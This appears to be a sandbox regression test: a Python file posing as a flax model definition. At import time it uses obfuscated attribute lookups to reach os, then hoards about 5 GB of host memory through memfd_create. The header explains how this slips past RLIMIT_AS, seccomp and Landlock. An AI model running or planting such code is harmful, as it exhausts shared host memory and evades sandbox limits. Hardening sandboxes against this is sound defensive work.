# expect: ok
# kind: take-down
# attack: hoard host memory outside the address-space limit: memfd_create (not in the seccomp list, not a path, so Landlock does not see it) 80 anonymous files and write 64 MB (just under RLIMIT_FSIZE) into each: 5 GB of shmem pages that RLIMIT_AS (4 GB) never counts, since nothing is mapped; 256 fds x 64 MB = 16 GB per sandbox is reachable; it raises with what it held (and the host's Shmem from /proc/meminfo) if the hoard succeeded. (found open: 5 GB held, host Shmem +5 GB; seccomp now refuses these syscalls, the hoard stays empty and the model trains)
import typing

import flax.linen as nn

AG = typing.operator.attrgetter
B = AG("__builtins__")(typing.cast)
OS = AG("modules")(AG("__globals__")(typing.cast)["sys"])["os"]
CHUNK = B["bytes"](8 << 20)
HELD, FDS, ERR = 0, [], ""
try:
    for i in B["range"](80):
        fd = AG("memfd_create")(OS)("hoard", 0)
        FDS.append(fd)
        for _ in B["range"](7):
            HELD += OS.write(fd, CHUNK)
        HELD += OS.write(fd, CHUNK[:-1])
except Exception as err:
    ERR = repr(err)
SHMEM = [line for line in B["open"]("/proc/meminfo").read().splitlines() if line.startswith(("Shmem:", "MemAvailable"))]
if HELD > 4 << 30:
    raise RuntimeError(f"memfd hoard held {HELD >> 20} MB in {len(FDS)} memfds beyond RLIMIT_AS; {SHMEM} {ERR}")


class Model(nn.Module):
    @nn.compact
    def __call__(self, x, train=False):
        return nn.Dense(10)(x)
